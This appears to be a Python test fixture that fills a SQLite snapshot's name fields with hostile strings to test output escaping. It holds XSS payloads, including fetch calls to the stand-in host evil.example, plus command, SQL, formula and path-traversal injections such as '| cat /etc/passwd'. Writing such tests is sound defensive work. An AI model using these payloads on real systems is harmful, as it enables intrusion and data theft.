"""Hostile names: what somebody may call a model, a maker or a source, at least five hundred, none of which may act.

Each holds ``MARK`` with its number, so that what reaches a page is found there, and would call ``hit`` if it acted.
"""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import Final

from tests.attested import attest

MARK: Final = "Zq"
ACTS: Final = (
    "alert({n})",
    "window.hit={n}",
    "document.title='hit {n}'",
    "fetch('//evil.example/{n}')",
    "location='//evil.example/{n}'",
)
FRAMES: Final = (
    "<script>{act}</script>",
    "</title><script>{act}</script>",
    "</textarea><script>{act}</script>",
    "</style><script>{act}</script>",
    "--><script>{act}</script>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<SCRIPT\n>{act}</SCRIPT\t>",
    "<img src=x onerror={act}>",
    '<img src=x onerror="{act}">',
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><foreignObject><body onload={act}></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={act}>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<iframe src=javascript:{act}>",
    "<object data=javascript:{act}>",
    "<a href=javascript:{act}>x</a>",
    "<form><button formaction=javascript:{act}>x",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<base href=//evil.example/>",
    "<style>@import'//evil.example/{n}';*{{background:url(//evil.example/{n})}}</style>",
    '" onmouseover="{act}" x="',
    "' onmouseover='{act}' x='",
    '" autofocus onfocus="{act}',
    "` onerror={act} `",
    '"><script>{act}</script>',
    "'><script>{act}</script>",
    '"/><svg/onload={act}>',
    "</option></select><script>{act}</script>",
    "</a><script>{act}</script>",
    "</td></table><script>{act}</script>",
    "]]><script>{act}</script>",
    "<![CDATA[<script>{act}</script>]]>",
    '<!--#exec cmd="{act}"-->',
    "<?xml version='1.0'?><script>{act}</script>",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "&#x3c;script&#x3e;{act}&#x3c;/script&#x3e;",
    "%3Cscript%3E{act}%3C/script%3E",
    "%253Cscript%253E{act}%253C/script%253E",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "\ufeff<script>{act}</script>",
    "＜script＞{act}＜/script＞",
    "<script\x0b>{act}</script\x0b>",
    "<\x00script>{act}</script>",
    "javascript:{act}",
    "JaVaScRiPt:{act}",
    "java\tscript:{act}",
    "java\nscript:{act}",
    " javascript:{act}",
    "\x01javascript:{act}",
    "data:text/html,<script>{act}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox({n})",
    "//evil.example/{n}",
    "\\\\evil.example\\{n}",
    "https://evil.example/{n}",
)
"""Ways in which text becomes an act."""
TEXTS: Final = (
    "{{{{7*7}}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{% for x in [1] %}}x{{% endfor %}}",
    "{{{{config}}}}",
    "{{{{self.__init__.__globals__}}}}",
    "{{ $low }}",
    "{{0}}{{1}}",
    "%s%n%x",
    "$(id)",
    "`id`",
    "; ls",
    "| cat /etc/passwd",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.example")',
    "\t=1+1",
    "\r=1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd%00.html",
    "file:///etc/passwd",
    "C:\\x",
    "con",
    ".",
    "..",
    "./",
    "/",
    "//",
    "a/b/c",
    "a//b",
    "?a=b",
    "#a",
    "a?b#c",
    "a&b=c",
    "a%b",
    "a%20b",
    "%",
    "%00",
    "%0d%0aSet-Cookie:x=y",
    "a\r\nSet-Cookie: x=y",
    "a\nb",
    "a\rb",
    "a\tb",
    "a\x0bb",
    "a\x0cb",
    "a\x00b",
    "a\x08b",
    "a\x7fb",
    "a\x1b[31mb",
    "a\x1b]0;t\x07b",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
    "a\u200bb",
    "a\u200db",
    "a\u00adb",
    "a\ufeffb",
    "a\ufffeb",
    "\ufffd",
    "\u202ertl\u202c",
    "\u202dltr",
    "\u2066a\u2069",
    "\u2067b",
    "\u061cc",
    "مرحبا",
    "שלום",
    "日本語のモデル",
    "Ελληνικά",
    "кириллица",
    "नमस्ते",
    "🏳️‍🌈👩‍👩‍👧",
    "e\u0301\u0301\u0301",
    "Z̴̡̛a̵͇l̷̰g̸̱o̶̩",
    "ﷺ",
    "𝕸𝖔𝖉𝖊𝖑",
    "ǅ",
    "ß",
    "İ",
    "ﬀ",
    "\U000e0041",
    "\U0010ffff",
    "' OR '1'='1",
    "'; DROP TABLE facts; --",
    '" OR ""="',
    "1;--",
    "\\'",
    '\\"',
    "\\",
    "\\\\",
    "'",
    '"',
    "`",
    "''",
    '""',
    "<",
    ">",
    "<>",
    "</",
    "<!",
    "<!--",
    "-->",
    "]]>",
    "&",
    "&amp;",
    "&amp;amp;",
    "&lt;",
    "&notanentity;",
    "&#0;",
    "&#x1F4A9;",
    "&NewLine;",
    "null",
    "None",
    "undefined",
    "NaN",
    "Infinity",
    "-0",
    "1e309",
    "true",
    "__proto__",
    "constructor",
    "{{}}",
    "[]",
    "[object Object]",
    " leading",
    "trailing ",
    "  ",
    "\u00a0",
    "a" * 300,
    "é" * 300,
    "W" * 300,
    "word " * 60,
    "a-" * 150,
    "<b>" * 60,
    "(" * 200,
    "\u0301" * 60,
)
"""Text that other languages, formats and eyes take for something else."""


def names() -> Iterator[str]:
    """All of them, all different."""
    number = 0
    for frame, act in product(FRAMES, ACTS):
        number += 1
        yield f"{frame.format(act=act.format(n=number), n=number)}{MARK}{number}"
    for text in TEXTS:
        for place in ("{text}{mark}", "{mark}{text}", "{text}{mark}{text}"):
            number += 1
            yield place.format(text=text.format(), mark=f"{MARK}{number}")


NAMES_OF: Final = (
    ("subjects", "label", "subject_kind IN ('model', 'device', 'provider', 'checkpoint')"),
    ("fact_rows", "text", "property = 'display_name'"),
    ("developers", "name", ""),
    ("providers", "name", ""),
    ("evidence", "title", ""),
    ("evidence", "publisher", ""),
    ("elements", "label", ""),
    ("systems", "label", ""),
    ("systems", "developer", ""),
    ("instruments", "name", ""),
    ("parties", "name", ""),
    ("countries", "name", ""),
    ("fact_rows", "text", "property IN ('weights', 'architecture_kind')"),
    ("disclosures", "reason", "reason <> ''"),
)
"""Table, column, rows: what a snapshot tells people that others have written."""


def poisoned(snapshot: Path, target: Path) -> int:
    """A copy of a snapshot whose names are hostile, another on each row; how many different ones it holds."""
    target.write_bytes(snapshot.read_bytes())
    every = list(names())
    used: set[str] = set()
    connection = sqlite3.connect(target)
    with connection:
        for table, column, rows in NAMES_OF:
            where = f" WHERE {rows}" if rows else ""
            found = connection.execute(f"SELECT rowid FROM {table}{where} ORDER BY rowid").fetchall()
            told = [(every[(place + len(used)) % len(every)], rowid) for place, (rowid,) in enumerate(found)]
            connection.executemany(f"UPDATE {table} SET {column} = ? WHERE rowid = ?", told)
            used |= {name for name, _ in told}
    connection.close()
    attest(target)
    return len(used)


SERVE: Final = """
import sys
from pathlib import Path
from obsia.facts import snapshot
snapshot.PACKAGED = Path(sys.argv.pop(1))
# Answers that came with the package were made of its own snapshot, whose hash the other one keeps.
from obsia.app.figures import prepared
prepared.FILE = snapshot.PACKAGED.with_name("no such file.sqlite")
# A process apart would begin with the snapshot of the package again.
from obsia.surfaces.http import application
application.Apart = lambda begin: None
from obsia.surfaces.cli import main
main()
"""
"""A program that is ``obsia`` with another snapshot: ``python -c SERVE SNAPSHOT serve``."""
